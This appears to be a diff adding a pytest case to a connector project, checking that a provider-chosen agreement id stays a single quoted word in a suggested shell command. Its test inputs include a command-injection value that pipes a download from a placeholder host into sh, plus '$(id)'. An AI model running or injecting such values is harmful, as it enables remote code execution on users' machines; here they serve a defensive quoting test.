@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
 from connector.model import Json, JsonObject
@@ -60,3 +62,16 @@ def test_a_state_is_as_old_as_the_message_that_led_there() -> None:
     process: JsonObject = {"state": "AGREED", "created": "0", "updated": "9", "messages": messages}
     assert [since(process), since({**process, "messages": []})] == ["2", "0"]
     assert since({**process, "state": "TERMINATED"}) == "9"
+
+
+@pytest.mark.parametrize("state", ["FINALIZED", "STARTED"])
+def test_an_agreement_s_id_is_one_word_of_the_command(state: str) -> None:
+    """The provider chooses it, and the command is there to be pasted into a shell."""
+    process: JsonObject = {
+        "kind": "negotiation", "role": "consumer", "state": state, "pid": "urn:x", "waits": None, "pending": None,
+        "counterparty": "did:web:mine.example",
+    }  # fmt: skip
+    for ident in ("a; curl https://evil.example | sh #", "$(id)", "it's", "a\nb"):
+        said, _ = advice({**process, "content": {"agreement": {"@id": ident}}})
+        assert shlex.split(said) == ["battery-connector", "fetch", ident]
+    assert advice({**process, "content": {"agreement": "urn:uuid:1"}})[0] == "battery-connector fetch urn:uuid:1"
